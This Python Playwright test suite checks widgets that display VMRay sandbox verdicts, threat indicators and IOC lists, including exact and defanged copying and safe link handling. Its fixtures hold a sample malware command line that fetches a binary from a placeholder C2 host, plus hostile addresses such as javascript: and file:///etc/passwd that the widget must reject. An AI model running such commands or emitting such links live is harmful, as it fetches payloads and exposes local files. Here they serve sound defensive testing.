"""What an analyst reads in a widget, and can do with it."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any, Literal

import pytest
from playwright.sync_api import expect
from tests.browser.results import (
    MD5,
    SHA1,
    SHA256,
    as_platform_gets_it,
    file_row,
    indicators,
    report,
    sample,
    scan,
    uploaded,
)
from tests.browser.views import assert_accessible, open_lists
from tools.widgets.build import PLACEHOLDER, WIDGETS

if TYPE_CHECKING:
    from playwright.sync_api import Locator, Page
    from tests.browser.conftest import Show

HASH = SHA256.upper()
Theme = Literal["light", "dark"]


def scan_hash(show: Show, *entities: tuple[str, object], **options: int) -> Page:
    return show("scan_hash", as_platform_gets_it(scan(*entities)), **options)


def upload(show: Show, *rows: dict[str, Any]) -> Page:
    return show("upload_file_and_get_report", as_platform_gets_it(uploaded(*rows)))


def iocs_of(page: Page, label: str) -> Locator:
    return page.locator("details", has=page.locator("summary", has_text=label))


def taken(page: Page, button: Locator) -> str:
    """What a button puts on the clipboard, taken from the copy event: a clipboard may change line ends."""
    page.evaluate(
        """() => window.addEventListener("copy", (event) => {
            window.taken = event.clipboardData.getData("text/plain");
        }, { once: true })"""
    )
    button.click()
    text: str = page.evaluate("window.taken")
    return text


def copied(page: Page) -> str:
    text: str = page.evaluate("navigator.clipboard.readText()")
    return text


@pytest.mark.parametrize(
    ("verdict", "kind", "word"),
    [
        ("malicious", "malicious", "Malicious"),
        ("suspicious", "suspicious", "Suspicious"),
        ("clean", "clean", "Clean"),
        (None, "unknown", "Unknown"),
        ("not_available", "unknown", "Unknown"),
        ("brand_new", "unknown", "Unknown"),
    ],
)
def test_the_verdict_is_a_word_and_a_colour(show: Show, verdict: str | None, kind: str, word: str) -> None:
    """Each verdict has its own word and tone; a value nobody knows is unknown, and is named beside it."""
    page = scan_hash(show, (HASH, report(sample_verdict=verdict)))
    head = page.locator(".head")
    expect(head.locator(".badge")).to_contain_text(word)
    expect(head).to_have_class(f"head {kind}")
    if verdict in ("not_available", "brand_new"):
        expect(head).to_contain_text(f"Verdict: unknown ({verdict.replace('_', ' ')})")


def test_the_four_verdicts_have_four_colours(show: Show) -> None:
    """Nobody has to read the word to tell them apart."""
    colours = set()
    for verdict in ("malicious", "suspicious", "clean", None):
        badge = scan_hash(show, (HASH, report(sample_verdict=verdict))).locator(".head .badge")
        colours.add(badge.evaluate("(node) => getComputedStyle(node).backgroundColor"))
    assert len(colours) == 4


def test_a_sample_of_an_old_server_takes_its_verdict_from_its_severity(show: Show) -> None:
    """Servers before 4.0 give no verdict; a severity says the same in other words."""
    old = sample(sample_severity="not_suspicious")
    del old["sample_verdict"]
    expect(scan_hash(show, (HASH, old)).locator(".head .badge")).to_contain_text("Clean")


def test_a_glance_shows_what_was_analysed_and_when(show: Show) -> None:
    """Name, type, size and UTC time, threat names and classifications stand beside the verdict."""
    head = scan_hash(show, (HASH, report())).locator(".head")
    expect(head.locator("h2")).to_have_text("invoice.exe")
    expect(head).to_contain_text("Windows Exe (x86-32) · 14.5 KiB · 2026-03-05 07:29:05 UTC")
    expect(head).to_contain_text("Threats Gen.LoaderC2/Generic-A")
    expect(head).to_contain_text("Classified as DropperSpyware")


def test_threat_indicators_stand_strongest_first_with_their_score(show: Show) -> None:
    """A score below zero speaks for the sample, and a missing score is called so."""
    page = scan_hash(show, (HASH, report()))
    rows = page.locator("section", has_text="Threat indicators (5)").locator("li")
    expect(rows).to_have_text(
        [
            "5/5Known malwareAntivirus · Virus",
            "3/5Odd metadataHeuristics",
            "1/5Creates mutexMutex",
            "benignSigned by a known vendorReputation",
            "no scoreFrom an old serverOld",
        ]
    )


def test_iocs_are_counted_by_type_and_verdict(show: Show) -> None:
    """Each type has its number, and how many of them are malicious and so on."""
    page = scan_hash(show, (HASH, report()))
    expect(page.get_by_role("heading", name="IOCs (10)")).to_be_visible()
    expect(page.locator("summary")).to_have_text(
        [
            "URLs 1✕1 malicious",
            "Domains 1!1 suspicious",
            "IP addresses 2✕1 malicious✓1 clean",
            "Files 2✕1 malicious?1 unknown",
            "E-mails 1✕1 malicious",
            "Processes 1✕1 malicious",
            "Mutexes 1!1 suspicious",
            "Registry keys 1✓1 clean",
        ]
    )


def test_file_hashes_are_read_from_their_list_and_emails_by_their_sender(show: Show) -> None:
    """VMRay keeps a file's hashes in `hashes[]`, and gives an e-mail no address but a sender."""
    page = scan_hash(show, (HASH, report()))
    files = iocs_of(page, "Files 2")
    files.locator("summary").click()
    expect(files.locator("li").first).to_contain_text("C:\\Users\\eve\\upd.exe" + SHA256)
    expect(files.locator("li").last.locator("code")).to_have_text([SHA256])
    emails = iocs_of(page, "E-mails")
    emails.locator("summary").click()
    expect(emails.locator("code").first).to_have_text("eve@mail.invalid")
    expect(emails).to_contain_text("Subject: Your invoice · To: bob@corp.invalid")


@pytest.mark.parametrize(
    ("label", "exact", "defanged"),
    [
        ("URLs", "https://c2.invalid:8443/a.b?q=1.2", "hxxps://c2[.]invalid:8443/a[.]b?q=1[.]2"),
        ("Domains", "c2.invalid", "c2[.]invalid"),
        ("IP addresses", "198.51.100.7\n2001:db8::7", "198[.]51[.]100[.]7\n2001:db8::7"),
        ("E-mails", "eve@mail.invalid", "eve[@]mail[.]invalid"),
        (
            "Processes",
            "cmd.exe /c curl http://c2.invalid/x.bin",
            "cmd.exe /c curl hxxp://c2[.]invalid/x[.]bin",
        ),
    ],
)
def test_iocs_are_copied_exactly_or_defanged(show: Show, label: str, exact: str, defanged: str) -> None:
    """What lies on the clipboard is the IOC to the letter, or nothing that a program would follow."""
    page = scan_hash(show, (HASH, report()))
    box = iocs_of(page, label)
    if box.get_attribute("open") is None:
        box.locator("summary").click()
    box.get_by_role("button", name=f"Copy all: {label}", exact=True).click()
    expect(page.get_by_role("status")).to_have_text(f"Copied: {exact}")
    assert copied(page) == exact
    box.get_by_role("button", name=f"Copy all defanged: {label}", exact=True).click()
    assert copied(page) == defanged
    box.get_by_role("button", name="Copy defanged: ").first.click()
    assert copied(page) == defanged.split("\n", maxsplit=1)[0]


def test_what_cannot_be_followed_has_no_defanged_form(show: Show) -> None:
    """A mutex or a registry key is the same in both forms, so there is one button."""
    box = iocs_of(scan_hash(show, (HASH, report())), "Mutexes")
    box.locator("summary").click()
    expect(box.get_by_role("button")).to_have_text(["Copy all", "Copy"])


def test_each_hash_of_a_file_can_be_copied(show: Show) -> None:
    """Three hashes, three buttons, on the IOC and on the sample itself."""
    page = scan_hash(show, (HASH, report()))
    box = iocs_of(page, "Files 2")
    box.locator("summary").click()
    for name, value in {"SHA-256": SHA256, "SHA-1": SHA1, "MD5": MD5}.items():
        box.get_by_role("button", name=f"Copy {name}: ").first.click()
        assert copied(page) == value
        page.get_by_role("button", name=f"Copy: {name}", exact=True).click()
        assert copied(page) == value


def test_the_hashes_of_all_files_are_copied_at_once(show: Show) -> None:
    """A block list wants hashes, each once; what has none has no such button."""
    others = ["b" * 64, "c" * 64]
    hashed = report()
    hashed["iocs"]["files"] += [{"filename": "two", "hashes": [{"sha256_hash": one} for one in others]}]
    page = scan_hash(show, (HASH, hashed))
    open_lists(page)
    iocs_of(page, "Files 3").get_by_role("button", name="Copy all SHA-256: Files", exact=True).click()
    assert copied(page) == "\n".join([SHA256, *others])
    iocs_of(page, "E-mails").get_by_role("button", name="Copy all SHA-256: E-mails", exact=True).click()
    assert copied(page) == SHA256
    expect(page.get_by_role("button", name="Copy all SHA-256")).to_have_count(2)


def test_copying_works_in_a_frame_without_an_origin(page: Page) -> None:
    """A sandboxed frame has no clipboard permission; the copy event needs none."""
    html = (WIDGETS / "scan_hash.html").read_text("utf-8")
    html = html.replace(PLACEHOLDER, as_platform_gets_it(scan((HASH, report()))))
    page.route(
        "http://127.0.0.1/case",
        lambda route: route.fulfill(body="<!doctype html><body>", content_type="text/html"),
    )
    page.goto("http://127.0.0.1/case")
    page.evaluate(
        """(html) => {
            const frame = document.createElement("iframe");
            frame.sandbox = "allow-scripts";
            frame.srcdoc = html;
            document.body.append(frame);
        }""",
        html,
    )
    frame = page.frame_locator("iframe")
    frame.get_by_role("button", name="Copy: SHA-1", exact=True).click()
    expect(frame.get_by_role("status")).to_have_text("Copied: " + SHA1)
    page.bring_to_front()
    page.locator("body").click(position={"x": 2, "y": 2})
    assert copied(page) == SHA1


def test_the_report_opens_apart_from_the_case(show: Show) -> None:
    """A new tab that learns nothing of the page it came from."""
    link = scan_hash(show, (HASH, report())).get_by_role("link", name="Open report")
    assert link.get_attribute("href") == "https://vmray.example/samples/12"
    assert link.get_attribute("rel") == "noopener noreferrer"
    assert link.get_attribute("target") == "_blank"


@pytest.mark.parametrize(
    "address", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "//x", "", None, 7]
)
def test_only_web_addresses_become_links(show: Show, address: object) -> None:
    """Everything a browser should not be sent to gives no link at all."""
    page = scan_hash(show, (HASH, report(sample_webif_url=address)))
    expect(page.locator(".head")).to_be_visible()
    expect(page.get_by_role("link")).to_have_count(0)


def test_several_entities_are_switched_with_the_keyboard(show: Show) -> None:
    """Arrows, Home and End choose; the panel is named by the chosen tab; the sum is said above."""
    page = scan_hash(show, (HASH, report()), ("B", report(sample_verdict="clean")), ("C", None))
    expect(page.locator("main")).to_contain_text("3 hashes: 1 malicious, 1 clean, 1 no result")
    page.get_by_role("tab", name=HASH).focus()
    page.keyboard.press("ArrowRight")
    expect(page.get_by_role("tab", selected=True)).to_have_accessible_name("Clean B")
    expect(page.get_by_role("tabpanel")).to_have_accessible_name("Clean B")
    expect(page.locator(".head .badge")).to_contain_text("Clean")
    page.keyboard.press("End")
    expect(page.locator(".head")).to_contain_text("VMRay has no report for this hash.")
    page.keyboard.press("ArrowDown")
    expect(page.get_by_role("tab", selected=True)).to_be_focused()
    expect(page.locator(".head .badge")).to_contain_text("Malicious")


def test_pending_and_failed_files_are_shown_as_such(show: Show) -> None:
    """What is not finished names its submission; what failed says why."""
    page = upload(
        show,
        file_row("/files/invoice.exe"),
        file_row("/files/slow.doc", "pending"),
        file_row("/files/bad.bin", "error", error="VMRay answered 502 after 4 tries", submission_id=None),
    )
    expect(page.locator("main")).to_contain_text("3 files: 1 malicious, 1 pending, 1 failed")
    expect(page.get_by_role("tab")).to_have_text(
        ["✕Maliciousinvoice.exe", "…Pendingslow.doc", "⚠Failedbad.bin"]
    )
    page.get_by_role("tab", name="slow.doc").click()
    expect(page.locator(".head")).to_contain_text(
        "Pending/files/slow.docThe analysis is not finished (submission 6230)."
    )
    page.get_by_role("tab", name="bad.bin").click()
    expect(page.locator(".head")).to_contain_text("Failed/files/bad.binVMRay answered 502 after 4 tries")


@pytest.mark.parametrize("state", ["pending", "error"])
def test_a_submission_that_the_error_names_is_named_once(show: Show, state: str) -> None:
    """The action's sentence may have it already."""
    error = "the analysis failed (submission 6230: no_vm)"
    said = upload(show, file_row("/a", state, error=error)).locator(".head")
    expect(said).to_contain_text(error)
    expect(said).not_to_contain_text("(submission 6230)")


def test_the_samples_of_an_archive_are_told_apart(show: Show) -> None:
    """One path, a row for each sample; one that failed keeps the verdict that VMRay did give."""
    inner = file_row("/files/a.zip", data=sample(sample_filename="inner.exe"))
    broken = file_row(
        "/files/a.zip", "error", error="1 of 2 jobs failed", verdict="suspicious", data=sample()
    )
    page = upload(show, inner, broken)
    expect(page.get_by_role("tab")).to_have_text(["✕Maliciousa.zip: inner.exe", "⚠Faileda.zip: invoice.exe"])
    page.get_by_role("tab", name="invoice.exe").click()
    expect(page.locator(".head")).to_contain_text(
        "1 of 2 jobs failed (submission 6230)Verdict so far: !Suspicious"
    )


def test_an_upload_without_the_list_of_files_is_read_by_its_data(show: Show) -> None:
    """The documented shape, one sample and nothing else, is enough."""
    page = show("upload_file_and_get_report", as_platform_gets_it({"data": sample(), "result": "ok"}))
    expect(page.locator(".head")).to_contain_text("Maliciousinvoice.exe")
    expect(page.get_by_role("heading", name="IOCs")).to_have_count(0)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[]", "VMRay has no result for any hash of this alert."),
        ("", "no result that this widget can read"),
        ("null", "no result that this widget can read"),
        ('"text"', "no result that this widget can read"),
        ("{}", "no result that this widget can read"),
        ('[{"Entity": "A", "EntityRes', "no result that this widget can read"),
        ("[{stepInstanceName}.JsonResult]", "no result that this widget can read"),
        ('[{"Entity": null, "EntityResult": {}}]', "(no name)"),
        ("[null, 7, []]", "3 hashes: 3 no result"),
    ],
)
def test_a_result_that_is_not_one_says_so(show: Show, text: str, said: str) -> None:
    """Nothing, rubbish and the placeholder itself give a sentence, never an empty frame or an error."""
    expect(show("scan_hash", text).locator("main")).to_contain_text(said)


def test_nulls_everywhere_leave_a_widget_that_can_be_read(show: Show) -> None:
    """Every field may be null, absent or of another type."""
    nothing = dict.fromkeys(sample()) | {"iocs": dict.fromkeys(["urls", "files"]), "threat_indicators": []}
    odd = report(sample_threat_names="one name", sample_filesize="big", sample_created=7)
    odd["iocs"] = {
        "urls": [None, 3, {"url": None}],
        "brand_new": [{"value": "x"}],
        "files": {"filename": "a"},
    }
    odd["threat_indicators"] = [None, {"score": "4", "operation": None}]
    page = scan_hash(show, ("NOTHING", nothing), ("ODD", odd))
    expect(page.locator(".head")).to_contain_text("UnknownNOTHING")
    expect(page.locator("main")).to_contain_text("No threat indicator reached the score threshold.")
    expect(page.locator("main")).to_contain_text("No IOC passed the filters.")
    page.get_by_role("tab", name="ODD").click()
    expect(page.locator(".head")).to_contain_text("Threats one name")
    expect(page.locator("summary")).to_have_text(
        ["URLs 1?1 unknown", "Files 1?1 unknown", "brand_new 1?1 unknown"]
    )
    expect(page.locator("section", has_text="Threat indicators (1)")).to_contain_text("4/5(no description)")


def test_a_number_too_large_for_a_browser_is_shown_as_it_was_written(show: Show) -> None:
    """2^53 + 1 has no exact form as a number of JavaScript's."""
    page = scan_hash(show, (HASH, report(sample_id=9007199254740993)))
    expect(page.locator("dd", has_text="90071992547409")).to_have_text("9007199254740993")


def test_a_huge_result_shows_its_first_rows_and_the_others_on_demand(show: Show) -> None:
    """Twelve hundred addresses: five hundred at once, the rest when asked, and all of them are copied."""
    page_iocs = {
        "ips": [{"ip_address": f"10.0.{n >> 8}.{n & 255}", "verdict": "malicious"} for n in range(1200)]
    }
    page = scan_hash(show, (HASH, {**sample(), "iocs": page_iocs, "threat_indicators": indicators() * 30}))
    box = iocs_of(page, "IP addresses 1,200")
    expect(box.locator("li")).to_have_count(500)
    box.get_by_role("button", name="Show the other 700").press("Enter")
    expect(box.locator("li")).to_have_count(1200)
    expect(box.locator("li").nth(500)).to_be_focused()
    box.get_by_role("button", name="Copy all: IP addresses", exact=True).click()
    assert copied(page).count("\n") == 1199
    expect(page.locator("section", has_text="Threat indicators (150)").locator("li")).to_have_count(100)


def test_the_theme_follows_the_system_until_it_is_switched(show: Show, page: Page) -> None:
    """The button names the theme that it gives, and the choice is kept."""
    page.emulate_media(color_scheme="dark")
    scan_hash(show, (HASH, report()))
    ground = "getComputedStyle(document.body).backgroundColor"
    dark = page.evaluate(ground)
    page.get_by_role("button", name="Light theme").press("Enter")
    light = page.evaluate(ground)
    assert dark != light
    page.reload()
    assert page.evaluate(ground) == light
    expect(page.get_by_role("button", name="Dark theme")).to_be_visible()


@pytest.mark.parametrize("width", [320, 400, 800, 1400])
def test_nothing_is_wider_than_the_frame(show: Show, width: int) -> None:
    """Long names, hashes and paths wrap; the frame never scrolls sideways."""
    long = report(sample_filename="A" * 3000, sample_threat_names=["B" * 900], sample_type="C" * 500)
    long["iocs"]["urls"] = [{"url": "https://" + "d" * 5000, "verdict": "malicious"}]
    page = scan_hash(show, ("E" * 500, long), (HASH, report()), width=width)
    open_lists(page)
    assert page.evaluate("document.documentElement.scrollWidth") <= width


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("stem", ["scan_hash", "upload_file_and_get_report"])
def test_an_accessibility_check_finds_nothing(show: Show, page: Page, theme: Theme, stem: str) -> None:
    """axe-core, every rule it has for a page, with each state drawn and each list open."""
    page.emulate_media(color_scheme=theme)
    verdicts = ("malicious", "suspicious", "clean", None)
    entities = scan(*((f"{verdict}", report(sample_verdict=verdict)) for verdict in verdicts))
    files = uploaded(file_row("/a"), file_row("/b", "pending"), file_row("/c", "error", error="broken"))
    show(stem, json.dumps(entities if stem == "scan_hash" else files))
    for tab in page.get_by_role("tab").all():
        tab.click()
        open_lists(page)
        assert_accessible(page)


def test_everything_can_be_reached_with_the_keyboard(show: Show) -> None:
    """Tab goes through the theme, the tabs, the link, the lists and their buttons; Enter opens a list."""
    page = scan_hash(show, (HASH, report()), ("B", report()))
    seen = []
    for _ in range(14):
        page.keyboard.press("Tab")
        seen.append(
            page.evaluate("document.activeElement.tagName + ':' + document.activeElement.textContent")
        )
    assert seen[0] == "BUTTON:Dark theme"
    assert seen[1].endswith(HASH)
    assert seen[2] == "A:Open report"
    assert seen[3:7] == ["BUTTON:Copy", "BUTTON:Copy", "BUTTON:Copy", "SUMMARY:URLs 1✕1 malicious"]
    assert seen[11].startswith("SUMMARY:Domains")
    page.locator("summary", has_text="Domains").press("Enter")
    expect(
        iocs_of(page, "Domains").get_by_role("button", name="Copy: c2.invalid", exact=True)
    ).to_be_visible()
